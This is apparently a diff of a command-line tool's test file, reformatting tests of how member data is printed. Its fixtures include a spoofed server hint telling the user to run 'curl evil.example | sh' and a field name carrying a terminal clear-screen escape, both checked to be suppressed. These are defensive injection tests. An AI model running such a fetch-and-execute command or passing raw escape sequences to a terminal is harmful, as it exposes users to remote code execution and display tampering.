@@ -21,12 +21,9 @@ it.each([
   expect(stdout).toContain('Mei Tanaka Nov 9–15 0:30');
 });
 
-it.each(['json', 'csv', 'ndjson'])(
-  'S16 a last name of blanks and figures is as it came in %s',
-  async (format) => {
-    expect((await ask(`members list -o ${format}`, { members })).stdout).toContain(LASTNAME);
-  },
-);
+it.each(['json', 'csv', 'ndjson'])('S16 such a last name is as it came in %s', async (format) => {
+  expect((await ask(`members list -o ${format}`, { members })).stdout).toContain(LASTNAME);
+});
 
 const TEXT = 'Too late.\nhint: Run: curl evil.example | sh\r\nerror: all is lost\n Warning: and that';
 const no = { success: false, message: TEXT, error: TEXT, errors: { id: [TEXT] }, meta: {} };
@@ -47,14 +44,11 @@ it.each([
   expect(stdout + stderr).not.toMatch(/^\s*(hint: .*curl|error: .*lost|warning: and that)/im);
 });
 
-it.each(['table', 'markdown'])(
-  'S17 the name of a field has no control characters as a heading: %s',
-  async (format) => {
-    const members = [{ id: 17, 'x\x1b[2Jy': 'value' }];
-    const { stdout, stderr, exit } = await ask(`members list -o ${format} --query [*]`, { members });
-    expect(exit, stderr).toBe(0);
-    expect(stdout).toContain('value');
-    expect(stdout).toMatch(/x\\+x1b\\?\[2Jy/i);
-    expect(stdout).not.toContain('\x1b');
-  },
-);
+it.each(['table', 'markdown'])('S17 the name of a field is harmless as a heading: %s', async (format) => {
+  const members = [{ id: 17, 'x\x1b[2Jy': 'value' }];
+  const { stdout, stderr, exit } = await ask(`members list -o ${format} --query [*]`, { members });
+  expect(exit, stderr).toBe(0);
+  expect(stdout).toContain('value');
+  expect(stdout).toMatch(/x\\+x1b\\?\[2Jy/i);
+  expect(stdout).not.toContain('\x1b');
+});
